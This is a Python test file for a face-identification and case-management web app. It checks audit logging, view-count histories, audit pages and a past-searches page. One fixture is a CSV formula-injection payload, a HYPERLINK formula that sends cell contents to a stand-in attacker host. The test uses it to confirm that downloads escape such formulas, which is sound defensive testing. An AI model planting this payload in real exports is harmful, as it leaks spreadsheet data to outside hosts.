"""Quieter records in the web pages (TestClient, SQLite): one audit event per page view, record
histories that count views instead of listing them, audit actions in plain words with links to
their records, CSV downloads with formula cells escaped, and the page of past searches."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

from fastapi import FastAPI
from fastapi.testclient import TestClient
from markupsafe import escape
from sqlalchemy import select
from webtest import client_login, face_images, insert_lead

from facetrace.gallery.quality_bands import quality_band
from facetrace.store.accounts import get_user
from facetrace.store.audit import list_events
from facetrace.store.workflow_models import Identification, Notification
from facetrace.workflow import Workflow

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'


def _signed_in(app: FastAPI, name: str) -> TestClient:
    client = TestClient(app, base_url="http://127.0.0.1")
    client_login(client, name)
    return client


def _records(app: FastAPI, name: str) -> dict[str, Any]:
    """A report with a contact, a case, a lead between them (built without the face pipeline),
    its identification (evidence and two confirmations) and the notification it drafted."""
    service = app.state.service
    with service.db.sessions() as session:
        ivan, olena, petro = (get_user(session, n) for n in ("ivan", "olena", "petro"))
    wf = Workflow(service.gallery, source="test")
    report = wf.reports.create_report(
        ivan,
        name=name,
        reported_by="family",
        source="form",
        legal_basis="consent",
        contacts=[{"name": "Mother", "relation": "mother", "email": "mother@family.example", "language": "en"}],
    )
    case = wf.cases.create_case(ivan, condition="deceased", found_place="Bucha")["case"]
    lead_id = insert_lead(
        service.db, case["id"], report["report"]["id"], score=0.93, fmr=2e-6, fpir=5e-6, case_quality=60.0
    )
    wf.reviews.add_evidence(olena, lead_id, kind="dental", description="Dental chart matches")
    wf.reviews.review_lead(olena, lead_id, decision="confirm", rationale="Same scar above the left eye")
    wf.reviews.review_lead(petro, lead_id, decision="confirm", rationale="Ears and scar agree")
    with service.db.sessions() as session:
        ident_id = session.execute(select(Identification.id).where(Identification.lead_id == lead_id)).scalar_one()
        # The confirmation drafted the family's notification.
        note_id = session.execute(
            select(Notification.id).where(Notification.identification_id == ident_id)
        ).scalar_one()
    return {
        "report": report["report"],
        "case": case,
        "lead_id": lead_id,
        "ident_id": ident_id,
        "notification_id": note_id,
    }


def _events_of(app: FastAPI, response: Any) -> list[Any]:
    """The audit events appended while serving ``response`` (those carrying its request id)."""
    request_id = response.headers["X-Request-ID"]
    with app.state.service.db.sessions() as session:
        events, _ = list_events(session, limit=100)
    return [e for e in events if (e.detail or {}).get("request_id") == request_id]


def _csv_rows(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text[-500:]
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_each_page_view_is_one_audit_event(web_app: FastAPI) -> None:
    made = _records(web_app, "Taras Once")
    olena = _signed_in(web_app, "olena")
    pages = {
        f"/reports/{made['report']['reference']}": ("report.view", f"report:{made['report']['id']}"),
        f"/cases/{made['case']['reference']}": ("case.view", f"case:{made['case']['id']}"),
        f"/leads/{made['lead_id']}": ("lead.view", f"lead:{made['lead_id']}"),
        f"/identifications/{made['ident_id']}": ("identification.view", f"identification:{made['ident_id']}"),
        f"/notifications/{made['notification_id']}": ("notification.view", f"notification:{made['notification_id']}"),
    }
    for path, (action, record) in pages.items():
        response = olena.get(path)
        assert response.status_code == 200, (path, response.text[-500:])
        events = _events_of(web_app, response)
        assert [(e.action, e.actor) for e in events] == [(action, "olena")], path
        assert record in events[0].records, path
    # The case file as PDF is one export event naming what it holds, not a view of each record.
    pdf = olena.get(f"/cases/{made['case']['reference']}/report.pdf")
    assert pdf.status_code == 200
    exported = _events_of(web_app, pdf)
    assert [e.action for e in exported] == ["case.export"]
    assert f"lead:{made['lead_id']}" in exported[0].records


def test_a_record_history_counts_views_and_lists_every_other_action(web_app: FastAPI) -> None:
    made = _records(web_app, "Iryna Counted")
    path = f"/cases/{made['case']['reference']}"
    olena, petro = _signed_in(web_app, "olena"), _signed_in(web_app, "petro")
    for _ in range(3):
        assert olena.get(path).status_code == 200
    for _ in range(2):
        assert petro.get(path).status_code == 200
    page = _signed_in(web_app, "ivan").get(path).text  # this view counts too
    history = page[page.index('id="hist-h"') :]
    assert history.count('data-views="case.view"') == 1
    assert re.search(r"case viewed 6 times by 3 users", history), history[:3000]
    assert "first " in history and "last " in history
    assert ">case viewed<" not in history  # no single view is a row of its own
    # Every other action stays a row, in words, with links to the records.
    for words in ("case opened", "lead reviewed", "evidence recorded", "identification established"):
        assert f"<td>{words}</td>" in history, words
    assert f'href="/leads/{made["lead_id"]}"' in history
    assert f'href="/identifications/{made["ident_id"]}"' in history
    rows = history.count("<tr")
    with web_app.state.service.db.sessions() as session:
        _, total = list_events(session, records=[f"case:{made['case']['id']}", f"lead:{made['lead_id']}"])
    assert rows < total  # the page is shorter than the trail it summarises


def test_audit_page_shows_actions_in_words_with_links(web_app: FastAPI) -> None:
    made = _records(web_app, "Petro Linked")
    anna = _signed_in(web_app, "anna")
    case_id = made["case"]["id"]
    page = anna.get("/audit", params={"record": f"case:{case_id}"}).text
    assert "case opened" in page and '<small class="mono">case.create</small>' in page
    # An auditor reads the trail, not the case files: a record links to its own trail.
    assert f'<a href="/audit?record=case%3A{case_id}">case {made["case"]["reference"]}</a>' in page
    assert f'<a href="/audit?record=lead%3A{made["lead_id"]}">lead {made["lead_id"]}</a>' in page
    with web_app.state.service.db.sessions() as session:
        anna_id = get_user(session, "anna").id
    logins = anna.get("/audit", params={"action": "login", "actor": "anna"}).text
    assert "signed in" in logins and f'<a href="/audit?record=user%3A{anna_id}">user anna</a>' in logins
    link = re.search(r'id="audit-csv" href="([^"]+)"', page)
    assert link and link.group(1) == f"/audit.csv?record=case%3A{case_id}"
    rows = _csv_rows(anna.get(link.group(1).replace("&amp;", "&")))
    assert rows and all(f"case:{case_id}" in r["records"].split() for r in rows)
    assert rows[-1]["label"] == "case opened"
    with web_app.state.service.db.sessions() as session:
        exports, _ = list_events(session, action="audit.export", actor="anna")
    assert exports[0].detail["record"] == f"case:{case_id}" and exports[0].detail["rows"] == len(rows)


def test_list_downloads_escape_formulas(web_app: FastAPI) -> None:
    _records(web_app, HOSTILE_NAME)
    olena = _signed_in(web_app, "olena")
    page = olena.get("/reports", params={"q": "HYPERLINK", "status": "identified_deceased"}).text
    link = re.search(r'id="reports-csv" href="([^"]+)"', page)
    assert link and link.group(1) == "/reports.csv?q=HYPERLINK&amp;status=identified_deceased"
    rows = _csv_rows(olena.get(link.group(1).replace("&amp;", "&")))
    assert [r["name"] for r in rows] == ["'" + HOSTILE_NAME]
    cases = _csv_rows(olena.get("/cases.csv"))
    assert cases and {"reference", "condition", "found_place", "status"} <= set(cases[0])
    bad = olena.get("/cases.csv", params={"status": "sideways"})
    assert bad.status_code == 422 and "sideways" in bad.text
    with web_app.state.service.db.sessions() as session:
        exports, _ = list_events(session, action="report.list_export", actor="olena")
    assert exports[0].detail == {"q": "HYPERLINK", "status": "identified_deceased", "format": "csv", "rows": 1} | {
        "request_id": exports[0].detail["request_id"]
    }


def test_past_searches_page_lists_photo_searches_for_colleagues(web_app: FastAPI) -> None:
    olena = TestClient(web_app, base_url="http://127.0.0.1")
    csrf = client_login(olena, "olena")
    photo = face_images("Naoto_Kan")[0]
    response = olena.post(
        "/search",
        data={"csrf_token": csrf, "case_reference": "CASE-PAST-7", "purpose": "who is on the ferry photo"},
        files=[("image", (photo.name, photo.read_bytes(), "image/jpeg"))],
    )
    assert response.status_code == 200, response.text[-500:]
    # The face's quality band beside its quality, and what it means in plain words below it.
    service = web_app.state.service
    (face,) = service.gallery.detect(photo.read_bytes(), photo.name)
    band = quality_band(face.quality.score, min_quality=service.settings.min_quality)
    caption = re.search(r"<figcaption>(.*?)</figcaption>", response.text, re.S)
    assert caption and f'<span class="badge band-{band.name}"' in caption.group(1)
    assert f">{band.label}</span>" in caption.group(1)
    assert f'<p class="band-advice">{escape(band.advice)}</p>' in caption.group(1)
    for name in ("petro", "anna", "olena"):
        page = _signed_in(web_app, name).get("/search/history", params={"user": "olena"})
        assert page.status_code == 200
        row = next(r for r in page.text.split("<tr")[1:] if "CASE-PAST-7" in r)
        assert 'data-search="photo"' in row and "who is on the ferry photo" in row and "1 face" in row
        assert "olena" in row
    with web_app.state.service.db.sessions() as session:
        viewed, _ = list_events(session, action="search.history.view")
    assert {e.actor for e in viewed} >= {"petro", "anna", "olena"}
    assert 'href="/search/history"' in _signed_in(web_app, "petro").get("/").text  # in the navigation
